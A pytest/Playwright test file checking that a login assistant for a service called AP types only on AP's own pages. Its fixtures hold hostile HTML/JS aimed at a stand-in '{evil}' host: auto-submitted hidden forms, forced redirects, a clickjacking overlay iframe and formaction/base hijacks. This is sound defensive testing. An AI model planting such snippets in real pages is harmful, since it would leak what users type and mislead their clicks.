"""Wherever a page leads, the assistant types on AP's own pages only: judged by what the strangers' servers received."""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext

from automation.errors import ApUnreachableError, WrongOriginError
from tests.ap.guard_scene import BUTTON, FIELD, FORM, NIP, Scenes, ap_page
from tests.ap.guard_scene import fresh_context as fresh_context  # noqa: PLC0414  a fixture
from tests.ap.guard_scene import scene as scene  # noqa: PLC0414  a fixture
from tests.ap.hostile_server import LISTENING_PAGE, Answer, WebServer

pytestmark = pytest.mark.browser


def test_the_stranger_hears_what_is_typed_on_its_page(fresh_context: BrowserContext) -> None:
    """The witness itself: keys, values and clicks on its page reach its server. Else nothing here could fail."""
    with WebServer().running() as evil:
        page = fresh_context.new_page()
        page.goto(f"http://localhost:{evil.port}/")
        page.keyboard.type("12")
        page.get_by_role("button").click()
        for _ in range(50):  # what it tells its server travels by itself
            if evil.was_told("click") and len(evil.felt) >= 4:
                break
            page.wait_for_timeout(200)
        assert "keydown 1 " in evil.felt
        assert "input undefined 12" in evil.felt
        assert evil.was_told("click")


# --- redirects ------------------------------------------------------------------------------------


@pytest.mark.parametrize("at", ["localhost", "127.0.0.1"], ids=["other-host", "other-port"])
@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_of_aps_address_is_not_followed(scene: Scenes, status: int, at: str) -> None:
    """The stranger's server is not even asked; the message names it."""
    s = scene({"/web/": Answer(status=status, headers={"location": "{evil}/web/"})}, at=at)
    error = s.must_stop()
    assert error.details == {"place": "page", "origin": f"http://{at}:{s.evil.port}", "environment": "local"}
    assert s.evil.received == []


def test_a_redirect_within_ap_is_followed(scene: Scenes) -> None:
    """From the address to the login, as AP does."""
    s = scene({"/web/": Answer(status=302, headers={"location": "/web/login"}), "/web/login": ap_page()})
    s.log_in()
    assert [post.body for post in s.own.posts] == [f"nip={NIP}"]


_HIDDEN = "<form method=post action='{evil}/take'><input type=hidden name=a value=b></form>"
_SUBMIT = "<script>document.forms[1].submit()</script>"

LED_AWAY = {
    "refresh-header": Answer(ap_page().body, headers={"refresh": "0;url={evil}/web/"}),
    "meta-refresh": ap_page("<meta http-equiv=refresh content='0;url={evil}/web/'>"),
    "location": ap_page("<script>location.href = '{evil}/web/'</script>"),
    "location-late": ap_page("<script>setTimeout(() => { location.href = '{evil}/web/'; }, 200)</script>"),
    "location-replace": ap_page("<script>location.replace('{evil}/web/')</script>"),
    "location-in-javascript-url": ap_page("<script>location = `javascript:location='{evil}/web/'`</script>"),
    "history": ap_page(
        "<script>history.pushState({}, '', '/web/login'); history.back();"
        "onpopstate = () => location.replace('{evil}/');</script>"
    ),
    "own-redirect": ap_page("<script>location.href = '/redirect302?{evil}/web/'</script>"),
    "form-get": ap_page(_HIDDEN.replace("post", "get") + _SUBMIT),
    "form-post": ap_page(_HIDDEN + _SUBMIT),
    "form-post-redirected": ap_page(_HIDDEN.replace("{evil}/take", "/redirect307?{evil}/take") + _SUBMIT),
    "link": ap_page("<a href='{evil}/web/'>x</a><script>document.links[0].click()</script>"),
    "pressed-form-redirected": ap_page(form=FORM.replace("/signed-in", "/redirect307?{evil}/take")),
    "pressed-form-changed": ap_page(
        "<script>document.forms[0].onsubmit = (event) => { event.target.action = '{evil}/take'; }</script>"
    ),
}


@pytest.mark.usually(7)
@pytest.mark.parametrize("page", LED_AWAY.values(), ids=LED_AWAY)
def test_a_page_that_leads_away_is_kept_and_the_run_stops(scene: Scenes, page: Answer) -> None:
    """Whatever sends the window elsewhere: the stranger's server gets no request, AP's page stays."""
    s = scene({"/web/": page})
    error = s.must_stop()
    assert error.details["place"] == "page"
    assert str(s.evil.port) in str(error.details["origin"])
    assert s.evil.received == []
    assert s.ap.environment.owns(s.ap.page.url)


def test_an_empty_page_in_aps_place_is_not_acted_on(scene: Scenes) -> None:
    """It is nobody's."""
    s = scene({"/web/": ap_page("<script>setTimeout(() => { location = 'about:blank' }, 100)</script>")})
    assert s.must_stop().details == {"place": "page", "origin": "about:", "environment": "local"}


def test_the_browsers_error_page_in_aps_place_means_that_ap_does_not_answer(scene: Scenes) -> None:
    """Nobody else can be behind it, for the gate keeps strangers out: exit 6, and nothing is typed."""
    s = scene({"/web/": ap_page("<script>setTimeout(() => { location = '/broken' }, 100)</script>")})
    with pytest.raises(ApUnreachableError):
        s.log_in()
    assert s.evil.received == []


# --- frames ---------------------------------------------------------------------------------------

_OVER = "style='position: fixed; inset: 0; width: 100%; height: 100%; opacity: 0.01'"

FRAMES = {
    "plain": "<iframe src='{evil}/'></iframe>",
    "over-the-form": f"<iframe src='{{evil}}/' {_OVER}></iframe>",
    "late": """<script>setTimeout(() => {
      document.body.append(Object.assign(document.createElement("iframe"), { src: "{evil}/" }));
    }, 200)</script>""",
    "redirected": "<iframe src='/redirect302?{evil}/'></iframe>",
    "moved": "<iframe></iframe><script>frames[0].location = '{evil}/'</script>",
    "by-javascript-url": """<iframe src="javascript:location='{evil}/'"></iframe>""",
    "in-srcdoc": """<iframe srcdoc="<iframe src='{evil}/'></iframe>"></iframe>""",
    "in-sandboxed-srcdoc": f"""<iframe {_OVER} sandbox="allow-scripts allow-same-origin"
      srcdoc="<iframe src='{{evil}}/' {_OVER.replace("'", "&quot;")}></iframe>"></iframe>""",
    "in-isolated-srcdoc": """<iframe sandbox="allow-scripts" srcdoc="<iframe src='{evil}/'></iframe>"></iframe>""",
    "data": "<iframe src='data:text/html,<input autofocus>'></iframe>",
    "object": "<object data='{evil}/' type='text/html'></object>",
    "embed": "<embed src='{evil}/' type='text/html'>",
    "form-into-frame": "<iframe name=f></iframe>" + _HIDDEN.replace("<form", "<form target=f") + _SUBMIT,
}


@pytest.mark.parametrize("frame", FRAMES.values(), ids=FRAMES)
def test_a_foreign_frame_stops_the_run(scene: Scenes, frame: str) -> None:
    """Over the form or beside it, there from the start or put in later: nothing is typed at all."""
    s = scene({"/web/": ap_page(frame)})
    assert s.must_stop().details["place"] == "frame"
    assert not s.own.posts
    assert [request.method for request in s.evil.received] in ([], ["GET"])


OWN = {
    "srcdoc": "<iframe srcdoc='<p>x</p>'></iframe>",
    "sandboxed-srcdoc": "<iframe sandbox srcdoc='<p>x</p>'></iframe>",
    "empty": "<iframe></iframe><iframe src='about:blank#x'></iframe>",
    "javascript-url": "<iframe src='javascript:1'></iframe><a href='javascript:void 0'>x</a>",
    "blob": """<iframe></iframe><script>
      frames[0].frameElement.src = URL.createObjectURL(new Blob(["x"], { type: "text/html" }));
    </script>""",
    "own-frame": "<iframe src='/help'></iframe>",
    "own-window": "<script>open('/help')</script>",
    "empty-window": "<script>open('')</script>",
    "blob-window": "<script>open(URL.createObjectURL(new Blob(['x'], { type: 'text/html' })))</script>",
    "broken-own-frame": "<iframe src='/broken'></iframe>",
    "route": "<script>history.pushState({}, '', '/web/login#top')</script>",
}


@pytest.mark.usually(6)
@pytest.mark.parametrize("more", OWN.values(), ids=OWN)
def test_what_is_aps_own_is_let_be(scene: Scenes, more: str) -> None:
    """Help pages, print views, empty frames: the run goes on, and AP gets what was typed, once."""
    s = scene({"/web/": ap_page(more), "/help": Answer("<p>Pomoc</p>")})
    s.log_in()
    assert [post.body for post in s.own.posts] == [f"nip={NIP}"]


def test_a_frame_that_the_environment_lists_is_let_be(scene: Scenes) -> None:
    """Should the real AP have a frame of another origin, one line in `environments.py` allows it."""
    s = scene({"/web/": ap_page(FRAMES["plain"])}, frame_origins=("{evil}",))
    s.log_in()
    assert len(s.own.posts) == 1
    assert not s.evil.was_told(NIP)


# --- windows --------------------------------------------------------------------------------------

WINDOWS = {
    "open": "<script>open('{evil}/')</script>",
    "open-late": "<script>setTimeout(() => open('{evil}/'), 200)</script>",
    "open-without-opener": "<script>open('{evil}/', '', 'noopener')</script>",
    "open-empty-then-move": "<script>const w = open(''); setTimeout(() => { w.location = '{evil}/'; }, 100)</script>",
    "open-own-redirect": "<script>open('/redirect302?{evil}/')</script>",
    "link": "<a target=_blank href='{evil}/'>x</a><script>document.links[0].click()</script>",
    "form": _HIDDEN.replace("<form", "<form target=_blank") + _SUBMIT,
}


@pytest.mark.parametrize("more", WINDOWS.values(), ids=WINDOWS)
def test_a_foreign_window_stops_the_run(scene: Scenes, more: str) -> None:
    """However it was opened; nothing is typed, in it or in AP's own window."""
    s = scene({"/web/": ap_page(more)})
    assert s.must_stop().details["place"] == "window"
    assert not s.own.posts


def test_a_window_that_was_open_before_stops_the_run(scene: Scenes, fresh_context: BrowserContext) -> None:
    """A stranger's window beside AP's, from before the login."""
    s = scene({"/web/": ap_page()})
    fresh_context.new_page().goto(f"http://localhost:{s.evil.port}/")
    assert s.must_stop().details["place"] == "window"


# --- what an act leads to ---------------------------------------------------------------------------

LEADING = {
    "form-action": (FORM.replace("/signed-in", "{evil}/take"), False),
    "form-action-by-base": ("<base href='{evil}/'>" + FORM.replace("/signed-in", "take"), False),
    "form-action-behind-a-field": (
        FORM.replace("/signed-in", "{evil}/take").replace(
            "<label>", "<input type=hidden name=action><label>"
        ),
        False,
    ),
    "form-in-a-new-window": (FORM.replace("/signed-in", "{evil}/take' target='_blank"), False),
    "button-of-a-foreign-form": (
        FORM.replace("<button>", "<button form=f>") + "<form id=f method=post action='{evil}/take'></form>",
        True,
    ),
    "formaction": (FORM.replace("<button>", "<button formaction='{evil}/take'>"), True),
    "link-around": (FORM.replace("<button>", "<a href='{evil}/'><button type=button>"), True),
}


@pytest.mark.parametrize(("form", "may_type"), LEADING.values(), ids=LEADING)
def test_what_would_be_sent_to_a_stranger_is_not_typed_or_pressed(
    scene: Scenes, form: str, *, may_type: bool
) -> None:
    """A field of a form that goes elsewhere is not filled in; a button that leads elsewhere is not pressed."""
    s = scene({"/web/": ap_page(form=form)})
    assert s.must_stop(look=0.2).details["place"] == "form"
    assert s.ap.page.locator("input[name=nip], label input").input_value() == (NIP if may_type else "")
    assert s.evil.received == []


_LEAVES = ap_page("<script>setTimeout(() => { location.href = '{evil}/'; }, 100)</script>")


def test_where_a_person_logs_in_nothing_is_ever_typed(scene: Scenes) -> None:
    """login.gov.pl and banks: the browser may be there and the assistant waits, but has no hands."""
    s = scene({"/web/": _LEAVES})
    with s.ap.guard.waiting_for_person(lambda *_, **__: None):
        s.ap.open()
        s.ap.page.wait_for_url("**/localhost:*/**")
        s.ap.page.wait_for_timeout(300)
        s.ap.patience.still_wanted()
        with pytest.raises(WrongOriginError):
            s.ap.hand.fill(FIELD, NIP)
        with pytest.raises(WrongOriginError):
            s.ap.hand.press(BUTTON)
        s.ap.page.goto(s.ap.environment.address)
        s.ap.page.wait_for_url("**/localhost:*/**")
    with pytest.raises(WrongOriginError):
        s.ap.patience.still_wanted()
    assert s.evil.felt == []
    assert {request.method for request in s.evil.received} == {"GET"}


def test_while_a_person_logs_in_aps_own_page_is_typed_on_alone(scene: Scenes) -> None:
    """A bank's window may be open and is closed at the end; a page in plain http, a frame over AP's: kept away."""
    s = scene({"/web/": ap_page(WINDOWS["open"]), "/framed": ap_page(FRAMES["plain"])})
    told: list[tuple[str, object]] = []
    page = s.ap.page
    with s.ap.guard.waiting_for_person(lambda name, **values: told.append((name, values["origin"]))):
        s.log_in()
        assert len(page.context.pages) == 2
        page.evaluate("() => { location.href = 'http://bank.example/'; }")
        for _ in range(50):
            page.wait_for_timeout(100)
            s.ap.patience.still_wanted()
            if told:
                break
        page.goto(s.ap.environment.origin + "/framed")
        with pytest.raises(WrongOriginError):
            s.ap.hand.fill(FIELD, NIP)
    assert told == [("login-page-kept-out", "http://bank.example:80")]
    assert len(page.context.pages) == 1
    assert len(s.own.posts) == 1
    assert s.evil.felt == []
    page.goto(s.ap.environment.address)
    s.must_stop()


def test_the_listening_page_passes_for_ap() -> None:
    """A stranger's page has the controls that the assistant looks for: it is refused for its address alone."""
    assert "NIP firmy" in LISTENING_PAGE
    assert "Uwierzytelnij do aplikacji testowej" in LISTENING_PAGE
